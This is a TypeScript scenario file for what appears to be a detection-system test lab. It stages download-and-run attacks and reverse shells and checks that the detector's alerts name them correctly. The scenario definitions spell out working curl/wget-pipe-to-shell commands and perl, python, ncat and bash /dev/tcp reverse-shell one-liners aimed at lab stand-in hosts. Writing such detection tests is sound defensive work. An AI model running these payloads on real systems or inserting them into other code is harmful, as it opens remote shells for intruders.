// Shell and download-and-run variants (issue 11, classes 1 and 2) the first scenarios did not
// stage: `… | sh` whose download ends before any tick (seen from the pipe its writer left and the
// closed download, with or without the pipeline in a command line), and reverse shells from perl,
// python's subprocess, ncat -e and bash /dev/tcp on ports other than 443.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { TechniqueId } from '../../src-shared/attack';
import type { Alert } from '../../src-shared/model';
import { startAgent } from './agents';
import { ADDR, NS, delay, type Lab, type LabProcess } from './lab';
import type { Scenario, StagedActivity } from './scenarios';

const FAST_HOST = ADDR.web[0];
const FAST_PORT = 8001;
const SHELL_PORTS = [8081, 9443, 10443] as const;
const ALSO_TRUE: TechniqueId[] = ['T1059', 'T1571'];

/**
 * An HTTP/1.1 server that answers at once with a short script and keeps the connection open, so the
 * downloader reads Content-Length bytes, exits and closes first (as with any keep-alive web server).
 */
function fastScriptServer(lab: Lab): LabProcess {
  const body = 'echo installing; sleep 10\n';
  const reply = join(lab.tmp, 'fast-reply.http');
  writeFileSync(reply, `HTTP/1.1 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: ${body.length}\r\nConnection: keep-alive\r\n\r\n${body}`);
  return lab.run(NS.ext, ['socat', `TCP-LISTEN:${FAST_PORT},bind=${FAST_HOST},reuseaddr,fork`, `SYSTEM:cat ${reply}; sleep 20`]);
}

async function withServer(lab: Lab, command: string[], names: (alert: Alert) => boolean): Promise<StagedActivity> {
  const server = fastScriptServer(lab);
  await delay(300);
  const victim = lab.run(NS.victim, command);
  return {
    names,
    stop: async () => {
      await Promise.all([victim.stop(), server.stop()]);
    },
  };
}

const fedShell =
  (shell: string) =>
  (alert: Alert): boolean =>
    alert.ruleId === 'relayed-shell' && alert.process?.name === shell && alert.destination?.port === FAST_PORT && alert.evidence.kind === 'download-pipe-ended';

async function reverseShell(lab: Lab, script: string, shell: string, port: number): Promise<StagedActivity> {
  const listeners = await startAgent(lab, NS.ext, 'tcp-server', ['--name', 'shells', ...SHELL_PORTS.flatMap((p) => ['--listen', `${ADDR.ext}:${p}=shell`])]);
  const victim = lab.run(NS.victim, ['bash', '-c', script]);
  return {
    names: (alert) =>
      alert.techniqueId === 'T1059.004' && alert.process?.name === shell && alert.destination?.address === ADDR.ext && alert.destination.port === port,
    stop: async () => {
      await Promise.all([victim.stop(), listeners.stop()]);
    },
  };
}

export const SHELL_VARIANT_SCENARIOS: Scenario[] = [
  {
    id: 'curl-pipe-sh-fast',
    title: `sh -c 'curl -s http://${FAST_HOST}:${FAST_PORT}/i.sh | sh': the download ends within milliseconds, the script runs on`,
    expected: 'T1059.004',
    mustName: `sh, curl (from the pipeline) and ${FAST_HOST}:${FAST_PORT}`,
    alsoTrue: ALSO_TRUE,
    needs: ['curl', 'socat'],
    windowMs: 10_000,
    stage: (lab) =>
      withServer(lab, ['sh', '-c', `curl -s http://${FAST_HOST}:${FAST_PORT}/i.sh | sh`], (a) => fedShell('sh')(a) && a.evidence.relayName === 'curl'),
  },
  {
    id: 'wget-pipe-bash-fast-no-cmdline',
    title: `wget -qO- … | bash typed into a shell reading its commands from a file (no pipeline in any command line), download ends at once`,
    expected: 'T1059.004',
    mustName: `bash and ${FAST_HOST}:${FAST_PORT} (from the closed download)`,
    alsoTrue: ALSO_TRUE,
    needs: ['wget', 'socat'],
    windowMs: 10_000,
    stage: (lab) => {
      const commands = join(lab.tmp, 'typed-commands.txt');
      writeFileSync(commands, `wget -qO- http://${FAST_HOST}:${FAST_PORT}/x | bash\n`);
      return withServer(lab, ['bash', '-c', `exec bash -s < ${commands}`], fedShell('bash'));
    },
  },
  {
    id: 'shell-perl-socket',
    title: `perl reverse shell: socket dup'ed onto STDIN/STDOUT, exec /bin/sh -i, to ${ADDR.ext}:${SHELL_PORTS[0]}`,
    expected: 'T1059.004',
    mustName: `sh wired to ${ADDR.ext}:${SHELL_PORTS[0]}`,
    alsoTrue: ALSO_TRUE,
    needs: ['perl'],
    windowMs: 12_000,
    stage: (lab) =>
      reverseShell(
        lab,
        `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${SHELL_PORTS[0]},inet_aton("${ADDR.ext}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`,
        'sh',
        SHELL_PORTS[0],
      ),
  },
  {
    id: 'shell-python-subprocess',
    title: `python3 subprocess.call(["/bin/bash","-i"]) with the socket as stdio, to ${ADDR.ext}:${SHELL_PORTS[1]}`,
    expected: 'T1059.004',
    mustName: `bash wired to ${ADDR.ext}:${SHELL_PORTS[1]}`,
    alsoTrue: ALSO_TRUE,
    windowMs: 12_000,
    stage: (lab) =>
      reverseShell(
        lab,
        `python3 -c 'import socket,subprocess;s=socket.create_connection(("${ADDR.ext}",${SHELL_PORTS[1]}));subprocess.call(["/bin/bash","-i"],stdin=s,stdout=s,stderr=s)'`,
        'bash',
        SHELL_PORTS[1],
      ),
  },
  {
    id: 'shell-ncat-exec',
    title: `ncat ${ADDR.ext} ${SHELL_PORTS[2]} -e /bin/bash`,
    expected: 'T1059.004',
    mustName: `bash run by ncat for ${ADDR.ext}:${SHELL_PORTS[2]}`,
    alsoTrue: ALSO_TRUE,
    needs: ['ncat'],
    windowMs: 12_000,
    stage: (lab) => reverseShell(lab, `ncat ${ADDR.ext} ${SHELL_PORTS[2]} -e /bin/bash`, 'bash', SHELL_PORTS[2]),
  },
  {
    id: 'shell-bash-dev-tcp-odd-port',
    title: `bash -i >& /dev/tcp/${ADDR.ext}/${SHELL_PORTS[0]} 0>&1`,
    expected: 'T1059.004',
    mustName: `bash wired to ${ADDR.ext}:${SHELL_PORTS[0]}`,
    alsoTrue: ALSO_TRUE,
    windowMs: 12_000,
    stage: (lab) => reverseShell(lab, `bash -i >& /dev/tcp/${ADDR.ext}/${SHELL_PORTS[0]} 0>&1`, 'bash', SHELL_PORTS[0]),
  },
];
